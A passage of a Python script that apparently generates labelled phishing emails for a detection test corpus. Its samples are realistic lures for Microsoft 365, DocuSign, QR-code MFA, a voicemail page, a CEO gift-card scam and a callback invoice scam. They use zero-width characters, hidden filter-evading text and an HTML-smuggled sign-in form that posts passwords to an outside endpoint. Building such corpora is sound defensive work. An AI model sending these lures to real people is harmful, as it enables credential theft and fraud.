    hdrs.append(("Date", date or sent.rfc()))
    hdrs.append(("Message-ID", mid or msgid_generic(key, frm[1].split("@")[1])))
    if irt:
        hdrs.append(("In-Reply-To", irt))
    if refs:
        hdrs.append(("References", refs))
    for k, v in extra:
        if v is None:
            continue
        if not is_ascii(v):
            v = ew(v, subj_cs, subj_enc, len(k) + 2)
        hdrs.append((k, v))
    return build(hdrs, root)


def eop_extra(p, lang, attach=False, topic=None):
    out = []
    if topic:
        for pre in ("AW: ", "RE: ", "Re: ", "WG: ", "R: "):
            if topic.startswith(pre):
                topic = topic[len(pre):]
        out.append(("Thread-Topic", topic))
    for k, v in p["extra"]:
        if k == "Accept-Language":
            v = "%s, en-US" % lang
        elif k == "Content-Language":
            v = lang
        elif k == "X-MS-Has-Attach":
            v = "yes" if attach else ""
        out.append((k, v))
    return out


ATTACK = []
BUSINESS = []


def reg(lst, num, lang, short, cs, desc):
    def deco(fn):
        lst.append((num, lang, short, cs, desc, fn))
        return fn
    return deco


def A(num, lang, short, cs, desc):
    return reg(ATTACK, num, lang, short, cs, desc)


def B(num, lang, short, cs, desc):
    return reg(BUSINESS, num, lang, short, cs, desc)

# ===========================================================================
# ATTACK messages
# ===========================================================================

@A("01", "en", "m365-password-expiry", "utf-8",
   "Microsoft 365 password-expiry lure from a freshly registered, fully authenticated look-alike domain; zero-width characters and hidden Bayes padding; link to a Cloudflare R2 bucket with the victim's address in the fragment.")
def a01(key):
    sent = t(1, "07:42:18", 0)
    rcpt = S["whitfield"][1]
    frm = ("Microsoft 365 Admin", "no-reply@mso365-notice.com")
    b64mail = base64.b64encode(rcpt.encode()).decode()
    url = "https://pub-3f9e2a7c41d84b0b9e6a5c2d17f08e3b.r2.dev/auth/m365/index.html#" + b64mail
    zw = "\u200b"
    body = """<!DOCTYPE html>
<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;padding:0;background:#f3f2f1;font-family:'Segoe UI',Tahoma,Arial,sans-serif">
<div style="display:none;font-size:0;line-height:0;max-height:0;opacity:0;overflow:hidden">Hi team, thanks for the quick turnaround on the Q4 forecast. Minutes from Thursday's ops call are in the shared folder, please review the action items before Monday. Best regards, facilities. Lunch order for Friday closes at 11.</div>
<table role="presentation" width="100%%" cellpadding="0" cellspacing="0" style="background:#f3f2f1"><tr><td align="center" style="padding:24px 8px">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;border:1px solid #e1dfdd">
<tr><td style="padding:20px 32px;border-bottom:1px solid #edebe9"><span style="font-size:18px;color:#737373;font-weight:600">Micro%(zw)ssoft 365</span></td></tr>
<tr><td style="padding:28px 32px;color:#323130;font-size:14px;line-height:20px">
<p style="font-size:20px;font-weight:600;margin:0 0 16px 0">Your pass%(zw)sword expires today</p>
<p>The password for <b>%(rcpt)s</b> is set to expire on <b>01 December 2026 at 23:59 (GMT)</b> in accordance with your organisation's security policy.</p>
<p>To avoid disruption to Outlook, Teams and OneDrive access, you can keep your current password or update it now. This takes less than a minute.</p>
<table role="presentation" cellpadding="0" cellspacing="0" style="margin:24px 0"><tr><td style="background:#0067b8;padding:10px 22px">
<a href="%(url)s" style="color:#ffffff;text-decoration:none;font-weight:600;font-size:14px">Keep current password</a></td></tr></table>
<p style="color:#605e5c;font-size:12px">If you do not take action, you will be signed out of all devices and will need to contact your administrator to regain access.</p>
</td></tr>
<tr><td style="padding:16px 32px;background:#faf9f8;color:#a19f9d;font-size:11px;line-height:16px">This message was sent from an unmonitored address. Please do not reply.<br>
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052<br>
<a href="%(url)s" style="color:#a19f9d">Privacy Statement</a></td></tr>
</table>
<div style="color:#f3f2f1;font-size:1px">ref %(ref)s</div>
</td></tr></table></body></html>
""" % dict(zw=zw, rcpt=rcpt, url=url, ref=hexid(24, "ref", key))
    root = html(body, "utf-8", "quoted-printable")
    hop = ("mail.mso365-notice.com", "mail.mso365-notice.com", "45.145.164.27", "1.3")
    ar = auth_res(spf=("pass", "bounce@mso365-notice.com", hop[2]), dkim=("pass", "mso365-notice.com", "default"),
                  dmarc=("pass", "mso365-notice.com", "none"))
    chain = ["from localhost (localhost [127.0.0.1])%s\tby mail.mso365-notice.com (Postfix) with ESMTPSA id 9C2E1A0412%s\tfor <%s>; %s" % (CRLF, CRLF, rcpt, sent.rfc())]
    return mail(key, rp="bounce@mso365-notice.com", rcpt=rcpt, sent=sent, hop=hop, ar=ar, chain=chain,
                dkim=("mso365-notice.com", "default", "from:to:subject:date:message-id:mime-version:content-type"),
                frm=frm, to=[S["whitfield"]], subject="Password expiry notice for %s \u2013 action required today" % rcpt,
                root=root, mid=msgid_generic(key, "mso365-notice.com", "uuid"),
                extra=[("X-Priority", "1"), ("X-MSMail-Priority", "High"), ("Importance", "High")])


@A("02", "en", "docusign-abuse-hr", "utf-8",
   "Genuine DocuSign envelope sent from an attacker-created DocuSign account named 'Example Group HR'; all authentication passes for docusign.net and the only link is a real DocuSign URL leading to a credential-harvesting document.")
def a02(key):
    sent = t(2, "10:05:44", 0)
    rcpt = S["whitfield"][1]
    env = hexid(8, "env", key).upper() + "-" + hexid(4, "e2", key).upper() + "-" + hexid(4, "e3", key).upper() + "-" + hexid(4, "e4", key).upper() + "-" + hexid(12, "e5", key).upper()
    link = "https://eu.docusign.net/Signing/EmailStart.aspx?a=%s&etti=24&acct=%s&er=%s" % (
        hexid(8, "a", key) + "-" + hexid(4, "b", key) + "-" + hexid(4, "c", key) + "-" + hexid(4, "d", key) + "-" + hexid(12, "e", key),
        hexid(8, "acct", key) + "-" + hexid(4, "acct2", key) + "-4f1e-9c0b-" + hexid(12, "acct3", key),
        hexid(8, "er", key) + "-" + hexid(4, "er2", key) + "-4a2d-8e11-" + hexid(12, "er3", key))
    plain = """Example Group HR sent you a document to review and sign.

REVIEW DOCUMENT
%s

Example Group HR
hr-compensation@examplegroup-people.com

James,

Please review and sign your 2027 Compensation Adjustment Letter. The adjustment becomes effective with the January payroll run, so we need your signature by Friday 4 December.

Kind regards,
HR & Compensation Team

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

Alternate Signing Method
Visit Docusign.com, click 'Access Documents', and enter the security code:
%s

About Docusign
Sign documents electronically in just minutes. It's safe, secure, and legally binding.

Questions about the Document?
If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.

Stop receiving this email
Report this email or read more about Declining to sign and Managing notifications.

This message was sent to you by Example Group HR who is using the Docusign Electronic Signature Service.
""" % (link, env.replace("-", "")[:32])
    htmlb = """<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="padding:0;margin:0;background:#eaeaea">
<table style="width:100%%;background:#eaeaea" cellpadding="0" cellspacing="0"><tr><td style="padding:24px">
<table style="max-width:640px;margin:0 auto;background:#ffffff" cellpadding="0" cellspacing="0">
<tr><td style="padding:10px 24px"><img src="https://docucdn-a.akamaihd.net/olive/images/2.62.0/global-assets/email-templates/email-logo.png" alt="Docusign" width="116" height="34"></td></tr>
<tr><td style="padding:0 24px"><table style="width:100%%;background:#1e1656;color:#ffffff" cellpadding="0" cellspacing="0"><tr><td style="padding:28px 24px;text-align:center;font-family:Helvetica,Arial,sans-serif">
<img src="https://docucdn-a.akamaihd.net/olive/images/2.62.0/global-assets/email-templates/icon-document.png" width="75" height="75" alt=""><br>
<p style="font-size:16px;line-height:24px">Example Group HR sent you a document to review and sign.</p>
<a href="%(link)s" style="display:inline-block;background:#ffc820;color:#130c49;font-weight:bold;font-size:15px;padding:12px 24px;border-radius:2px;text-decoration:none">REVIEW DOCUMENT</a>
</td></tr></table></td></tr>
<tr><td style="padding:24px;font-family:Helvetica,Arial,sans-serif;font-size:15px;color:#000000;line-height:22px">
<b>Example Group HR</b><br><a href="mailto:hr-compensation@examplegroup-people.com" style="color:#2463d1">hr-compensation@examplegroup-people.com</a><br><br>
James,<br><br>Please review and sign your 2027 Compensation Adjustment Letter. The adjustment becomes effective with the January payroll run, so we need your signature by Friday 4 December.<br><br>Kind regards,<br>HR &amp; Compensation Team</td></tr>
<tr><td style="padding:24px;background:#eaeaea;font-family:Helvetica,Arial,sans-serif;font-size:12px;color:#666666;line-height:18px">
<b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>
<b>Alternate Signing Method</b><br>Visit Docusign.com, click 'Access Documents', and enter the security code: %(code)s<br><br>
<b>About Docusign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.<br><br>
This message was sent to you by Example Group HR who is using the Docusign Electronic Signature Service. If you would rather not receive email from this sender you may contact the sender with your request.</td></tr>
</table></td></tr></table></body></html>
""" % dict(link=link, code=env.replace("-", "")[:32])
    b = bnd("javamail", key)
    root = multi("alternative", [text(plain, "plain", "utf-8", "quoted-printable"), html(htmlb, "utf-8", "quoted-printable")], b)
    hop = ("mailfr2.eu.docusign.net", "mailfr2.eu.docusign.net", "185.81.102.38", "1.2")
    rp = "bounces+%s@eumail.docusign.net" % hexid(20, "bnc", key)
    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("pass", "docusign.net", "s1"), dmarc=("pass", "docusign.net", "reject"))
    chain = ["from docusign.net (10.3.14.77) by mailfr2.eu.docusign.net (8.14.7/8.14.7) with ESMTP id 2B1A5iQx0%s;%s\tWed, 2 Dec 2026 10:05:44 GMT" % (alnum(6, "ds", key), CRLF)]
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar, chain=chain,
                dkim=("docusign.net", "s1", "from:to:subject:message-id:date:mime-version:content-type:reply-to"),
                frm=("Example Group HR via Docusign", "dse@eumail.docusign.net"), to=[S["whitfield"]],
                reply_to=("Example Group HR", "hr-compensation@examplegroup-people.com"),
                subject="Complete with Docusign: 2027_Compensation_Adjustment_James_Whitfield.pdf", root=root,
                mid="<%s@docusign.net>" % hexid(32, "mid", key),
                extra=[("X-DocuSign-Envelope-ID", env), ("X-Auto-Response-Suppress", "All")])


@A("03", "en", "quishing-mfa-reenrol", "utf-8",
   "Quishing: 'IT Service Desk' MFA re-enrolment notice from a look-alike domain sent through SendGrid; no clickable link, only an inline PNG QR code pointing to an adversary-in-the-middle login page.")
def a03(key):
    sent = t(1, "13:27:05", 0)
    rcpt = S["collins"][1]
    qrurl = "https://login-examplegroup.auth-verify.click/mfa/enroll?u=s.collins%40example.com&t=8f3a2c"
    png = qr_png(qrurl, scale=5, ecl="M")
    cid = "qr_%s@examplegroup-helpdesk.com" % hexid(10, "cid", key)
    body = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:Calibri,Arial,sans-serif;font-size:11pt;color:#1f1f1f">
<table width="620" cellpadding="0" cellspacing="0" style="border:1px solid #d0d0d0">
<tr><td style="background:#0b3d6e;color:#ffffff;padding:14px 20px;font-size:16pt">Example Group &middot; IT Service Desk</td></tr>
<tr><td style="padding:20px">
<p>Hello Sarah,</p>
<p>As part of the group-wide migration to <b>phishing-resistant MFA</b>, every user must re-register the Microsoft Authenticator app <b>before Friday, 4 December 2026</b>. Accounts that have not been re-registered will be blocked from Outlook, Teams and the VPN on Monday morning.</p>
<p><b>How to re-register (2 minutes):</b></p>
<ol><li>Open the camera on your <b>mobile phone</b> (the QR code cannot be opened on a PC).</li>
<li>Scan the code below and sign in with your Example Group account.</li>
<li>Approve the notification in Microsoft Authenticator.</li></ol>
<p style="text-align:center"><img src="cid:%s" width="205" height="205" alt="QR code"></p>
<p style="font-size:9pt;color:#666">Reference: CHG-2026-11-4187 &middot; This is an automated notification from the IT Service Desk. Please do not reply to this message.</p>
</td></tr></table>
<img src="https://u4821937.ct.sendgrid.net/wf/open?upn=%s" alt="" width="1" height="1" border="0" style="height:1px!important;width:1px!important">
</body></html>
""" % (cid, b64blob(90, "upn", key).replace("+", "-").replace("/", "_").rstrip("="))
    root = multi("related", [html(body, "utf-8", "base64"), inline_img(png, "image/png", "image001.png", cid)],
                 bnd("php", key), extra='; type="text/html"')
    hop = ("xtrwkhzq.outbound-mail.sendgrid.net", "xtrwkhzq.outbound-mail.sendgrid.net", "149.72.154.232", "1.3")
    rp = "bounces+4821937-9f3c-s.collins=example.com@em7412.examplegroup-helpdesk.com"
    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("pass", "examplegroup-helpdesk.com", "s1"),
                  dmarc=("pass", "examplegroup-helpdesk.com", "none"),
                  extra=["dkim=pass (2048-bit key) header.d=sendgrid.info header.i=@sendgrid.info header.a=rsa-sha256 header.s=smtpapi header.b=%s" % alnum(8, "sg", key)])
    chain = ["by filterdrecv-5c9d8b6f4-kq2xm with SMTP id filterdrecv-5c9d8b6f4-kq2xm-1-67%s-2A;%s\tTue, 01 Dec 2026 13:27:05.871 +0000 (UTC)" % (hexid(6, "f", key).upper(), CRLF),
             "from MjQ4MjE5Mzc (unknown)%s\tby geopod-ismtpd-12 (SG) with HTTP%s\tid %s;%s\tTue, 01 Dec 2026 13:27:05.622 +0000 (UTC)" % (CRLF, CRLF, alnum(22, "sgid", key), CRLF)]
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar, chain=chain,
                dkim=("examplegroup-helpdesk.com", "s1", "from:mime-version:subject:to:content-type:cc:content-type:from:subject:to"),
                frm=("Example Group IT Service Desk", "servicedesk@examplegroup-helpdesk.com"), to=[S["collins"]],
                subject="Action required: Microsoft Authenticator re-enrolment before 4 Dec 2026 [CHG-2026-11-4187]", root=root,
                mid="<%s@geopod-ismtpd-12>" % alnum(22, "sgmid", key),
                extra=[("X-SG-EID", b64blob(120, "sgeid", key)), ("X-Entity-ID", b64blob(18, "sgent", key))])


@A("04", "en", "voicemail-html-attachment", "windows-1252",
   "Fake Teams voicemail notification from a compromised dental-practice web host with an HTML attachment that assembles a prefilled Microsoft sign-in page via atob() (HTML smuggling) and posts to a workers.dev endpoint.")
def a04(key):
    sent = t(1, "09:52:31", 0)
    rcpt = S["bennett"][1]
    page = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>Voicemail - Microsoft Teams</title>
<style>body{font-family:'Segoe UI',sans-serif;background:#f5f5f5}.c{width:420px;margin:80px auto;background:#fff;padding:36px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;padding:8px;margin:8px 0;border:0;border-bottom:1px solid #666}button{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right}</style></head>
<body><div class="c"><img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHdpZHRoPSIxMDgiIGhlaWdodD0iMjQiPjwvc3ZnPg==" alt="Microsoft">
<h2>Sign in to play voicemail</h2><p>Message from +44 161 496 0732 &middot; 00:47</p>
<form method="POST" action="https://vm-playback.sharp-meadow-4f21.workers.dev/api/v2/auth">
<input type="email" name="login" value="o.bennett@example.com" readonly>
<input type="password" name="passwd" placeholder="Password" autofocus>
<button type="submit">Sign in</button></form></div></body></html>"""
    enc = base64.b64encode(page.encode("utf-8")).decode()
    att_html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><title>Playing voicemail...</title></head>
<body>
<!-- audio player loader -->
<script>
var _0x1a=["%s"];
var _e="o.bennett@example.com";
document.open();document.write(decodeURIComponent(escape(window.atob(_0x1a[0]))));document.close();
</script>
<noscript>Please enable JavaScript to play this voice message.</noscript>
</body></html>
""" % "\",\"".join([enc])
    txt = """You received a new voice message.

From:      +44 161 496 0732 (Manchester)
To:        Oliver Bennett <o.bennett@example.com>
Received:  Tuesday, 1 December 2026 09:51
Length:    00:47 sec
Priority:  Urgent

The recording is attached to this message. Open the attachment in your browser to listen (sign-in with your work account may be required for security reasons).

\u2013 Microsoft Teams Voicemail Service
  You are receiving this notification because voicemail-to-email is enabled for your line.
"""
    b = bnd("exim", key)
    root = multi("mixed", [text(txt, "plain", "windows-1252", "quoted-printable"),
                           att(att_html.encode("utf-8"), "text/html", "VM_Playback_01DEC2026_0947.htm", extra_ct="; charset=utf-8")],
                 b, preamble="This is a multi-part message in MIME format.")
    hop = ("cpanel12.host-eu.net", "cpanel12.host-eu.net", "185.119.88.34", "1.2")
    rp = "greenfie@cpanel12.host-eu.net"
    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("pass", "greenfield-dental.co.uk", "default"),
                  dmarc=("pass", "greenfield-dental.co.uk", "none"))
    chain = ["from greenfie by cpanel12.host-eu.net with local (Exim 4.98)%s\t(envelope-from <greenfie@cpanel12.host-eu.net>)%s\tid 1tQx%s-0007Hc-2J%s\tfor o.bennett@example.com; %s" % (
        CRLF, CRLF, alnum(4, "ex", key), CRLF, sent.rfc())]
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar, chain=chain,
                dkim=("greenfield-dental.co.uk", "default", "Content-Type:MIME-Version:Message-ID:Date:Subject:To:From:Sender:Reply-To"),
                frm=("Teams Voicemail", "voicemail@greenfield-dental.co.uk"), to=[S["bennett"]],
                subject="Voice Message Received: +44 161 496 0732 \u2013 00:47 \u2013 Tue 1 Dec 2026", subj_cs="windows-1252", subj_enc="Q",
                root=root, mid="<%s@greenfield-dental.co.uk>" % hexid(32, "m", key),
                extra=[("X-Mailer", "PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"),
                       ("X-AntiAbuse", "This header was added to track abuse, please include it with any abuse report"),
                       ("X-AntiAbuse", "Primary Hostname - cpanel12.host-eu.net"),
                       ("X-Get-Message-Sender-Via", "cpanel12.host-eu.net: authenticated_id: greenfie/from_h")])


@A("05", "en", "ceo-giftcard-opener", "us-ascii",
   "CEO impersonation opener from a Gmail account using the CEO's display name: a short 'are you available, keep it discreet' message with no link or attachment, the first step of a gift-card scam.")
def a05(key):
    sent = t(3, "08:11:47", 60)
    rcpt = S["whitfield"][1]
    frm = ("Markus Hoffmann", "markus.hoffmann.office@gmail.com")
    body = """James,

Are you at your desk? I need you to take care of something for me today, it is time sensitive and should stay between us for now.

I am in back-to-back meetings with the bank and cannot take calls. Just reply here when you see this.

Markus

Sent from my iPhone
"""
    p = p_gmail(key, sent, rcpt, frm[1])
    root = text(body, "plain", "us-ascii", "7bit")
    ar = auth_res(spf=("pass", frm[1], p["hop"][2]), dkim=("pass", "gmail.com", "20230601"), dmarc=("pass", "gmail.com", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=p["hop"], ar=ar, chain=p["chain"], dkim=p["dkim"],
                frm=frm, to=[S["whitfield"]], subject="Quick request", root=root, mid=msgid_gmail(key),
                extra=p["extra"] + [("X-Mailer", "iPhone Mail (22B91)")])


@A("06", "en", "callback-toad-invoice", "utf-8",
   "Callback phishing (TOAD): fake Geek Squad renewal invoice from Gmail with a PDF attachment; no links, only a phone number to call to 'cancel' the USD 499.99 charge.")
def a06(key):
    sent = t(2, "15:40:09", -300)
    rcpt = S["collins"][1]
    frm = ("Geek Squad Billing", "gs.billing.dept0471@gmail.com")
    inv = "GS-88412093"
    body = """Dear Customer,

Thank you for choosing Geek Squad Total Tech Support. Your annual membership has been renewed successfully and the amount of USD 499.99 will be debited from your account within 24 hours.

Invoice No.: %s
Product: Geek Squad Total Protection (3 Devices, 1 Year)
Date: 12/02/2026
Amount: USD 499.99
Payment method: Auto-debit

The detailed invoice is attached for your records.

If you did not authorise this renewal or wish to cancel and receive a full refund, please contact our billing department within 24 hours on:

+1 (888) 555-0147 (toll free, Mon-Sun 8am-10pm)

Regards,
Billing Department
Geek Squad Support Services

%s
""" % (inv, "-".join(hexid(6, "pad%d" % i, key) for i in range(5)))
    pdf = PDF("Invoice %s" % inv, "Billing", "Microsoft: Print To PDF", sent, creator="Microsoft Word")
    pdf.y = 790
    pdf.line("GEEK SQUAD", 22, True)
    pdf.line("Total Tech Support - Billing Department", 10)
    pdf.y -= 14
    pdf.line("INVOICE", 16, True)
    pdf.lines("Invoice number: %s\nInvoice date: 12/02/2026\nCustomer ID: GS-CU-7719304\nBilled to: %s" % (inv, rcpt))
    pdf.y -= 10
    pdf.rect(56, pdf.y - 4, 483, 18, 0.88)
    pdf.text(60, pdf.y, "Description", 10, True)
    pdf.text(330, pdf.y, "Qty", 10, True)
    pdf.text(400, pdf.y, "Amount (USD)", 10, True)
    pdf.y -= 22
    for d, q, a in (("Geek Squad Total Protection - 1 Year", "1", "449.99"), ("Remote Installation & Setup", "1", "50.00")):
        pdf.text(60, pdf.y, d, 10)
        pdf.text(330, pdf.y, q, 10)
        pdf.text(400, pdf.y, a, 10)
        pdf.y -= 16
    pdf.rule()
    pdf.y -= 6
    pdf.text(330, pdf.y, "TOTAL", 11, True)
    pdf.text(400, pdf.y, "499.99", 11, True)
    pdf.y -= 36
    pdf.lines("**Did not authorise this payment?\nTo cancel the subscription and request an immediate refund, call our billing helpline\nwithin 24 hours of receiving this invoice:\n**+1 (888) 555-0147\nOur agents are available Monday to Sunday, 8:00 AM - 10:00 PM.\nIf we do not hear from you, the charge will be processed automatically.")
    b = bnd("gmail", key)
    root = multi("mixed", [multi("alternative", [text(body, "plain", "utf-8", "quoted-printable"),
                                                 html("<div dir=\"ltr\">" + body.replace("\n\n", "<br><br>").replace("\n", "<br>") + "</div>", "utf-8", "quoted-printable")],
                                 bnd("gmail", key, "alt")),
                           Part([("Content-Type", 'application/pdf; name="Invoice_%s.pdf"' % inv),
                                 ("Content-Disposition", 'attachment; filename="Invoice_%s.pdf"' % inv),
                                 ("Content-Transfer-Encoding", "base64"),
                                 ("Content-ID", "<f_%s>" % alnum(11, "fid", key, alphabet="abcdefghijklmnopqrstuvwxyz0123456789")),
                                 ("X-Attachment-Id", "f_%s" % alnum(11, "fid", key, alphabet="abcdefghijklmnopqrstuvwxyz0123456789"))],
                                b64lines(pdf.render()))], b)
    p = p_gmail(key, sent, rcpt, frm[1])
    ar = auth_res(spf=("pass", frm[1], p["hop"][2]), dkim=("pass", "gmail.com", "20230601"), dmarc=("pass", "gmail.com", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=p["hop"], ar=ar, chain=p["chain"], dkim=p["dkim"],
                frm=frm, to=[S["collins"]], subject="Your order #%s has been processed \u2013 USD 499.99" % inv, root=root,
                mid=msgid_gmail(key), extra=p["extra"])


@A("07", "en", "gcal-invite-hr-review", "utf-8",
   "Google Calendar invitation from an attacker Gmail account posing as HR ('Year-End Compensation Review'); genuine Google infrastructure, text/calendar REQUEST plus invite.ics whose description links to a Google Sites credential page.")
def a07(key):
    sent = t(2, "16:18:52", 0)
    rcpt = S["whitfield"][1]
    org = ("Julia Becker (HR)", "hr.examplegroup.people@gmail.com")
    start = t(3, "14:00:00", 0)
    end = t(3, "14:30:00", 0)
    site = "https://sites.google.com/view/exg-hr-compensation-2026/review"
    desc = ("Dear colleagues,\n\nAhead of the 2027 salary round, each manager has a confidential 30-minute slot to confirm the "
            "individual compensation letters for their team. Please open your personalised letter before the meeting:\n\n"
            "%s\n\nSign in with your Example Group Microsoft 365 account (SSO) to access the letter. Do not forward this invitation.\n\n"
            "Julia Becker\nHR Manager, Example Group" % site)
    atts = who("whitfield", "collins", "bennett")
    uid = "%s@google.com" % alnum(26, "uid", key, alphabet="abcdefghijklmnopqrstuvwxyz0123456789")
    cal = ics("REQUEST", uid, org, atts + [org], start, end, "Year-End Compensation Review 2026 \u2013 Confidential", desc,
              "Google Meet: https://meet.google.com/vzx-kqpd-owe", sent, prodid="-//Google Inc//Google Calendar 70.9054//EN",
              extra=["X-GOOGLE-CONFERENCE:https://meet.google.com/vzx-kqpd-owe", "CREATED:" + sent.ical(), "LAST-MODIFIED:" + sent.ical()])
    plain = """Year-End Compensation Review 2026 \u2013 Confidential
Thursday 3 Dec 2026 \u22c5 14:00 \u2013 14:30
United Kingdom Time

Join with Google Meet
https://meet.google.com/vzx-kqpd-owe

%s

Organiser
Julia Becker (HR)
hr.examplegroup.people@gmail.com

Guests
James Whitfield
Sarah Collins
Oliver Bennett

View all guest info https://calendar.google.com/calendar/event?action=VIEW&eid=%s

Reply for j.whitfield@example.com
Yes https://calendar.google.com/calendar/event?action=RESPOND&eid=%s&rst=1
No https://calendar.google.com/calendar/event?action=RESPOND&eid=%s&rst=2
Maybe https://calendar.google.com/calendar/event?action=RESPOND&eid=%s&rst=3

Invitation from Google Calendar https://calendar.google.com/calendar/

You are receiving this email because you are an attendee on the event.
""" % ((desc,) + (b64blob(48, "eid", key).replace("+", "").replace("/", "").rstrip("="),) * 4)
    htm = "<html><body><div style=\"font-family:Roboto,Helvetica,Arial,sans-serif\"><h2>Year-End Compensation Review 2026 &ndash; Confidential</h2><p>Thursday 3 Dec 2026 &sdot; 14:00 &ndash; 14:30 (United Kingdom Time)</p><p><a href=\"https://meet.google.com/vzx-kqpd-owe\">Join with Google Meet</a></p><p>" + _x(desc).replace("\n", "<br>").replace(site, "<a href=\"%s\">%s</a>" % (site, site)) + "</p><p>Organiser: Julia Becker (HR) &lt;hr.examplegroup.people@gmail.com&gt;</p><p style=\"color:#777;font-size:12px\">Invitation from Google Calendar. You are receiving this email because you are an attendee on the event.</p></div></body></html>"
    alt = multi("alternative", [text(plain, "plain", "utf-8", "quoted-printable", ct_extra="; format=flowed; delsp=yes"),
                                html(htm, "utf-8", "quoted-printable"),
                                Part([("Content-Type", 'text/calendar; charset="UTF-8"; method=REQUEST'), ("Content-Transfer-Encoding", "base64")],
                                     b64lines(cal.encode("utf-8")))], bnd("gmail", key, "alt"))
    root = multi("mixed", [alt, Part([("Content-Type", 'application/ics; name="invite.ics"'),
                                      ("Content-Disposition", 'attachment; filename="invite.ics"'),
                                      ("Content-Transfer-Encoding", "base64")], b64lines(cal.encode("utf-8")))], bnd("gmail", key))
    n = _n(key, 60)
    hop = ("mail-sor-f%d.google.com" % (69 + n), "mail-sor-f%d.google.com" % (69 + n), "209.85.220.%d" % (69 + n), "1.3")
    rp = "3%s@calendar-server.bounces.google.com" % alnum(40, "rp", key)
    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("pass", "google.com", "20230601"), dmarc=("pass", "gmail.com", "none"),
                  extra=["dkim=pass header.i=@gmail.com header.s=20230601 header.b=%s" % alnum(8, "gm2", key)])
    chain = ["by mail-sor-f%d.google.com with SMTP id %s.%d%s\tfor <%s>; %s (PST)" % (69 + n, alnum(20, "sor", key), 3, CRLF, rcpt, sent.shift(1, -480).rfc())]
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar, chain=chain,
                dkim=("google.com", "20230601", "to:from:subject:date:message-id:reply-to:sender:mime-version"),
                frm=org, sender=("Google Calendar", "calendar-notification@google.com"), reply_to=org, to=atts,
                subject="Invitation: Year-End Compensation Review 2026 \u2013 Confidential @ Thu 3 Dec 2026 14:00 - 14:30 (GMT) (j.whitfield@example.com)",
                root=root, mid="<calendar-%s@google.com>" % (hexid(8, "c1", key) + "-" + hexid(4, "c2", key) + "-" + hexid(4, "c3", key) + "-" + hexid(4, "c4", key) + "-" + hexid(12, "c5", key)))


@A("08", "en", "fake-applicant-cv-zip", "utf-8",
   "Fake job applicant from an Outlook.com address sending a 'CV' ZIP that contains a Windows shortcut (.pdf.lnk placeholder) and a decoy cover letter, aimed at the UK hiring manager.")
def a08(key):
    sent = t(30, "19:03:26", 0)
    rcpt = S["whitfield"][1]
    frm = ("Daniel Harper", "daniel.harper.uk@outlook.com")
    body = """Dear Mr Whitfield,

I am writing to apply for the Warehouse Operations Supervisor position (Ref. MAN-2611) advertised on Indeed.

I have seven years of experience in warehouse and distribution operations, most recently as shift lead at a 3PL site in Trafford Park (120k sq ft, 40 staff across two shifts). I hold a Level 3 Certificate in Warehousing and Storage and counterbalance/reach truck licences, and I have led the roll-out of a new WMS including RF scanning and cycle counting.

My CV and cover letter are attached. The files are zipped as my previous email was rejected because of the attachment size.

I would welcome the chance to discuss how I could contribute to your team and I am available for interview at short notice.

Kind regards,

Daniel Harper
07700 900 418
"""
    lnk = b"L\x00\x00\x00" + placeholder("Windows shortcut .lnk", "Daniel_Harper_CV_2026.pdf.lnk")
    cover = ("Daniel Harper\nManchester\n\nCover letter - Warehouse Operations Supervisor (MAN-2611)\n\n"
             "Please see my CV (Daniel_Harper_CV_2026.pdf) for full details of my experience.\n").encode("utf-8")
    z = mkzip([("Daniel_Harper_CV_2026/Daniel_Harper_CV_2026.pdf.lnk", lnk, (2026, 11, 30, 18, 51, 10)),
               ("Daniel_Harper_CV_2026/Cover_Letter.txt", cover, (2026, 11, 30, 18, 49, 2))])
    p = p_eop(key, sent, "olkn")
    htm = "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"><style type=\"text/css\" style=\"display:none;\"> P {margin-top:0;margin-bottom:0;} </style></head><body dir=\"ltr\"><div style=\"font-family: Aptos, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);\">" + _x(body).replace("\n", "<br>") + "</div></body></html>"
    root = multi("mixed", [multi("alternative", [text(body, "plain", "utf-8", "base64"), html(htm, "utf-8", "base64")], bnd("outlook", key, "alt")),
                           att(z, "application/x-zip-compressed", "Daniel_Harper_CV_2026.zip", style="2047")],
                 bnd("outlook", key))
    ar = auth_res(spf=("pass", frm[1], p["hop"][2]), dkim=("pass", "outlook.com", "selector1"), dmarc=("pass", "outlook.com", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=p["hop"], ar=ar, chain=p["chain"],
                dkim=("outlook.com", "selector1", "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
                frm=frm, to=[S["whitfield"]], subject="Application \u2013 Warehouse Operations Supervisor (Ref. MAN-2611)",
